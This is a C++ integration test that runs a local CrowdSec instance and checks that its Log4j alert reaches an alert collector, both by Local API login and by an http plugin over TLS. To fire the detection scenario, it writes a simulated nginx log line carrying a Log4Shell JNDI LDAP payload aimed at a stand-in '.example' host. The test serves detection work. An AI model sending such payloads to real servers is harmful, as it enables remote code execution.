// CrowdSec as a real alert source: crowdsec 1.4.6 started by the test with its own config,
// database and port on loopback, reading an nginx access log the test writes. The collector
// both polls its Local API as a machine and receives its http notification plugin over TLS.
#include <signal.h>
#include <sys/types.h>

#include <doctest/doctest.h>

#include <chrono>
#include <ctime>
#include <fstream>
#include <optional>
#include <random>
#include <sstream>
#include <string>
#include <vector>

#include "tests/integration/harness.hpp"

using namespace tocsin::test;
using nlohmann::json;

namespace {

const fs::path kCrowdsec = "/usr/bin/crowdsec";
const fs::path kCscli = "/usr/bin/cscli";
const fs::path kHttpPlugin = "/usr/lib/crowdsec/plugins/http";
const fs::path kLog4jData = "/var/lib/crowdsec/data/log4j2_cve_2021_44228.txt";
constexpr const char* kHookToken = "crowdsec-hook-0123456789abcdef";
constexpr const char* kMachinePassword = "tocsin-machine-0123456789abcdef";

std::string read_all(const fs::path& p) {
  std::ifstream in(p, std::ios::binary);
  std::stringstream ss;
  ss << in.rdbuf();
  return ss.str();
}

// The direct children of `pid` (the notification plugins crowdsec starts as `nobody`).
std::vector<pid_t> children_of(pid_t pid) {
  std::vector<pid_t> out;
  for (const auto& e : fs::directory_iterator("/proc")) {
    auto name = e.path().filename().string();
    if (name.find_first_not_of("0123456789") != std::string::npos) continue;
    std::string stat = read_all(e.path() / "stat");
    auto close = stat.rfind(')');  // the command name may hold spaces and parentheses
    if (close == std::string::npos) continue;
    std::istringstream rest(stat.substr(close + 1));
    std::string state;
    pid_t ppid = 0;
    rest >> state >> ppid;
    if (ppid == pid) out.push_back(static_cast<pid_t>(std::stol(name)));
  }
  return out;
}

// crowdsec with everything of its own in `dir`; only the shipped parsers, scenarios and their
// data come from /etc/crowdsec and /var/lib/crowdsec. `hook_url` (if set) gets every alert
// through the http plugin, trusting the CA in `ca_pem` via SSL_CERT_FILE (the 1.4 plugin has
// no CA option).
class CrowdSec {
 public:
  CrowdSec(const fs::path& dir, std::uint16_t port, const std::string& hook_url,
           const fs::path& ca_pem)
      : dir_(dir), port_(port) {
    fs::create_directories(dir_ / "plugins");
    fs::create_directories(dir_ / "notifications");
    fs::create_directories(dir_ / "data");
    // crowdsec refuses a plugin file not named <type>-<name> ("Name should be like ...").
    fs::create_symlink(kHttpPlugin, dir_ / "plugins" / "notification-http");
    std::ofstream{access_log()};  // tailed from its end: create it before crowdsec starts
    std::ofstream(dir_ / "acquis.yaml")
        << "filenames:\n  - " << access_log().string() << "\nlabels:\n  type: nginx\n";
    std::ofstream(dir_ / "profiles.yaml")
        << "name: tocsin\nfilters:\n  - Alert.Remediation == true && Alert.GetScope() == \"Ip\"\n"
        << "decisions:\n  - type: ban\n    duration: 4h\n"
        << (hook_url.empty() ? "" : "notifications:\n  - http_tocsin\n") << "on_success: break\n";
    // The shipped http plugin config, pointed at the collector; the default format
    // ({{.|toJson}}) is what the collector's crowdsec webhook reads.
    std::ofstream(dir_ / "notifications" / "http.yaml")
        << "type: http\nname: http_tocsin\nlog_level: info\nformat: |\n  {{.|toJson}}\n"
        << "url: " << (hook_url.empty() ? "https://127.0.0.1:9/unused" : hook_url) << "\n"
        << "method: POST\nheaders:\n  Content-Type: application/json\n"
        << "  X-Tocsin-Token: " << kHookToken << "\ngroup_wait: 100ms\n";
    std::ofstream(config())
        << "common:\n  daemonize: false\n  log_media: stdout\n  log_level: info\n"
        << "config_paths:\n  config_dir: /etc/crowdsec/\n  data_dir: /var/lib/crowdsec/data/\n"
        << "  simulation_path: /etc/crowdsec/simulation.yaml\n"
        << "  hub_dir: /var/lib/crowdsec/hub/\n"
        << "  index_path: /var/lib/crowdsec/hub/.index.json\n"
        << "  notification_dir: " << (dir_ / "notifications").string() << "/\n"
        << "  plugin_dir: " << (dir_ / "plugins").string() << "/\n"
        << "crowdsec_service:\n  acquisition_path: " << (dir_ / "acquis.yaml").string()
        << "\n  parser_routines: 1\n"
        << "cscli:\n  output: human\n"
        << "db_config:\n  type: sqlite\n  db_path: " << (dir_ / "data" / "crowdsec.db").string()
        << "\n  use_wal: true\n"
        << "plugin_config:\n  user: nobody\n  group: nogroup\n"
        << "api:\n  client:\n    credentials_path: " << (dir_ / "local_creds.yaml").string()
        << "\n  server:\n    listen_uri: 127.0.0.1:" << port_
        << "\n    profiles_path: " << (dir_ / "profiles.yaml").string() << "\n"
        << "prometheus:\n  enabled: false\n";
    // crowdsec's own agent logs in to its LAPI with these.
    cscli({"machines", "add", "crowdsec-agent", "--auto", "-f",
           (dir_ / "local_creds.yaml").string()});
    // The plugin runs as nobody, and the collector's data dir (holding ca.pem) is 0700.
    const fs::path ca = dir_ / "collector-ca.pem";
    fs::copy_file(ca_pem, ca, fs::copy_options::overwrite_existing);
    fs::permissions(ca, fs::perms::owner_read | fs::perms::owner_write | fs::perms::group_read |
                            fs::perms::others_read);
    proc_ = Process({"/usr/bin/env", "SSL_CERT_FILE=" + ca.string(), kCrowdsec.string(), "-c",
                     config().string()},
                    dir_ / "crowdsec.log");
    bool ready = wait_until([&] {
      return log().find("Starting processing data") != std::string::npos || !proc_.running();
    }, 60s);
    REQUIRE_MESSAGE((ready && proc_.running()), "crowdsec did not start:\n" << log());
  }

  // SIGTERM leaves the plugin child running (as nobody): it is ended by its PID.
  ~CrowdSec() {
    auto plugins = children_of(proc_.pid());
    proc_.signal(SIGTERM);
    if (!proc_.wait(10s)) proc_.kill9();
    for (pid_t p : plugins) ::kill(p, SIGKILL);
  }

  void cscli(const std::vector<std::string>& args) {
    std::vector<std::string> argv = {kCscli.string(), "-c", config().string()};
    argv.insert(argv.end(), args.begin(), args.end());
    auto r = run_command(argv, 60s);
    REQUIRE_MESSAGE(r.rc == 0, "cscli failed: " << r.err << r.out);
  }

  // A watcher for the collector's poller: alerts are readable only by machines.
  void add_machine(const std::string& id, const std::string& password) {
    cscli({"machines", "add", id, "--password", password, "-f", (dir_ / (id + ".yaml")).string()});
  }

  // One nginx "combined" line, as if `source` had requested `path` with `user_agent`.
  void request(const std::string& source, const std::string& path,
               const std::string& user_agent) {
    std::time_t now = std::time(nullptr);
    std::tm tm{};
    gmtime_r(&now, &tm);
    char when[64];
    std::strftime(when, sizeof when, "%d/%b/%Y:%H:%M:%S +0000", &tm);
    std::ofstream(access_log(), std::ios::app)
        << source << " - - [" << when << "] \"GET " << path << " HTTP/1.1\" 404 153 \"-\" \""
        << user_agent << "\"\n";
  }

  std::string url() const { return "http://127.0.0.1:" + std::to_string(port_); }
  std::string log() const { return proc_.log(); }
  fs::path access_log() const { return dir_ / "access.log"; }
  fs::path config() const { return dir_ / "config.yaml"; }

 private:
  fs::path dir_;
  std::uint16_t port_;
  Process proc_;
};

// CrowdSec ignores private sources (127/8, 10/8, 172.16/12, 192.168/16) and, after an alert,
// stays silent per source and scenario for minutes: each case gets a fresh shared-space address.
std::string fresh_source_address() {
  std::random_device rd;
  std::uniform_int_distribution<int> octet(1, 254);
  return "100." + std::to_string(64 + octet(rd) % 64) + "." + std::to_string(octet(rd)) + "." +
         std::to_string(octet(rd));
}

std::optional<json> run_of(Collector& c, const std::string& marker) {
  auto all = c.api_get("/api/v1/runs?since=1h&limit=10000")["runs"];
  for (auto& r : all)
    if (r["marker"] == marker) return r;
  return std::nullopt;
}

json source_counters(Collector& c, const std::string& name) {
  auto sources = c.api_get("/api/v1/alert-sources")["sources"];
  for (auto& s : sources)
    if (s["name"] == name) return s;
  FAIL("no alert source " << name << " in " << sources.dump());
  return {};
}

bool installed() {
  for (const auto& p : {kCrowdsec, kCscli, kHttpPlugin, kLog4jData})
    if (!fs::exists(p)) {
      MESSAGE("skipped: " << p << " is missing (install crowdsec: scripts/deps --test)");
      return false;
    }
  return true;
}

}  // namespace

TEST_CASE("a real CrowdSec alert reaches the collector by LAPI machine login and by its http plugin over TLS") {
  if (!installed()) return;
  TempDir tmp("crowdsec");
  auto password_file = tmp / "lapi.password";
  std::ofstream(password_file) << kMachinePassword << "\n";
  auto lapi_port = closed_port();
  Collector c({.extra_yaml = "alert_sources:\n"
                             "  - name: lapi\n    type: crowdsec_lapi\n"
                             "    url: http://127.0.0.1:" + std::to_string(lapi_port) + "\n"
                             "    machine_id: tocsin\n"
                             "    password_file: " + password_file.string() + "\n"
                             "    interval: 500ms\n    lookback: 2m\n"
                             "  - name: cs-hook\n    type: crowdsec\n    token: " +
                             std::string(kHookToken) + "\n"});
  CrowdSec cs(tmp / "crowdsec", lapi_port,
              "https://127.0.0.1:" + std::to_string(c.api_port()) + "/hooks/cs-hook", c.ca_pem());
  cs.add_machine("tocsin", kMachinePassword);

  OpenPort open;
  Agent agent(c);
  agent.write_config_yaml(
      "allowlist:\n  tcp_connect: [\"127.0.0.1\"]\ntests:\n"
      "  - id: web-probe\n    probe: tcp_connect\n    every: 1h\n    jitter: 0s\n"
      "    timeout: 2s\n    technique: T1190\n"
      "    expect: {prevent: false, alert_within: 2m}\n"
      "    targets: [\"127.0.0.1:" + std::to_string(open.port()) + "\"]\n");
  agent.start();
  std::string marker;
  REQUIRE_MESSAGE(wait_until([&] {
                    auto runs = c.api_get("/api/v1/runs?since=1h&test=web-probe")["runs"];
                    if (runs.empty()) return false;
                    marker = runs.front()["marker"].get<std::string>();
                    return true;
                  }, 30s),
                  "no run reached the collector\n" << agent.log());

  // The simulated attacker: one log4j probe (a trigger scenario: one request fires it)
  // carrying the run's marker in the path and the user agent.
  const std::string attacker = fresh_source_address();
  cs.request(attacker, "/" + marker + "/index.html", "${jndi:ldap://" + marker + ".example/a}");

  json run;
  bool alerted = wait_until([&] {
    auto r = run_of(c, marker);
    if (r) run = *r;
    return r && (*r)["state"] == "alerted";
  }, 60s);
  INFO("run: " << run.dump(2) << "\ncrowdsec log (tail):\n"
               << cs.log().substr(cs.log().size() > 6000 ? cs.log().size() - 6000 : 0)
               << "\ncollector log:\n" << c.log());
  REQUIRE(alerted);
  CHECK(run["alert"]["rule"] == "crowdsecurity/apache_log4j2_cve-2021-44228");
  CHECK(run["alert"]["match_reason"].get<std::string>().find("exact marker " + marker) !=
        std::string::npos);

  // Both deliveries carry the marker: each source counts a match, whichever came first.
  json lapi, hook;
  bool both = wait_until([&] {
    lapi = source_counters(c, "lapi");
    hook = source_counters(c, "cs-hook");
    return lapi["matched"].get<std::uint64_t>() >= 1 && hook["matched"].get<std::uint64_t>() >= 1;
  }, 60s);
  INFO("lapi: " << lapi.dump() << "\nhook: " << hook.dump());
  CHECK(both);
  CHECK(hook["rejected"].empty());
}
